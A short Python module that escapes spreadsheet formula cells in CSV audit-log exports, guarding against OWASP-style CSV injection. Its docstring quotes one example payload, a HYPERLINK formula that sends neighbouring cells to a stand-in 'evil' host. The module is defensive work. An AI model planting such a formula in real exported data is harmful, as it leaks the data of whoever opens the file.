"""Spreadsheet-safe CSV cells (OWASP "CSV Injection").

Devices choose some of the text the audit log records (an MQTT client id, a requested
name); a spreadsheet that opens a CSV export runs a cell beginning with ``=``, ``+``, ``-``,
``@``, tab or carriage return as a formula (``=HYPERLINK("http://evil/?"&A2,"x")`` sends
the neighbouring cells away). Such a cell is prefixed with a single quote, which makes the
spreadsheet show it as text. Only the CSV formats do this; JSON stays verbatim, so nothing
is lost for a program that reads the log.
"""

from __future__ import annotations

from typing import Final

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
